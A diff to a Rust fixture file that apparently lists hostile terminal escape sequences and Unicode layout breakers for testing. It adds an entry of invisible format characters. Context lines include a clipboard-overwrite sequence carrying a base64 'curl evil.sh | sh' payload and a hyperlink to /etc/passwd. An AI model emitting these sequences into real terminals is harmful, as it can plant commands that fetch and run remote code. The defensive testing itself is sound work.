@@ -4,7 +4,7 @@
 use super::db::Db;
 
 /// Terminal attacks and layout breakers, one per entry.
-pub const SEQUENCES: [&str; 16] = [
+pub const SEQUENCES: [&str; 17] = [
     "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}", // OSC 52: overwrite the clipboard
     "\u{1b}]8;;file:///etc/passwd\u{1b}\\click me\u{1b}]8;;\u{1b}\\", // OSC 8 link to a file
     "\u{1b}]0;pwned title\u{7}\u{1b}[21t",       // set the title, then report it back
@@ -20,7 +20,9 @@ pub const SEQUENCES: [&str; 16] = [
     "para\u{2028}graph\u{2029}break\u{85}next",                     // Unicode line and paragraph separators, NEL
     "\u{1b}[1;1H\u{1b}[K\u{1b}[10A\u{1b}[5C\u{1b}[r",               // cursor games and scroll region
     "tab\there\u{b}vt\u{c}ff\u{7f}del",                             // other C0 and DEL
-    "",                                                             // filled below: many combining marks
+    // Format and default-ignorable characters that shift columns without a glyph of their own.
+    "an\u{FFF9}no\u{FFFA}ta\u{FFFB}ted \u{206A}\u{034F}\u{17B4}\u{1D173}\u{180E}\u{200C}\u{2800}wide \u{1F1FA}lone",
+    "", // filled below: many combining marks
 ];
 
 /// The `i`-th hostile sequence (the last one is 200 combining marks on one letter).
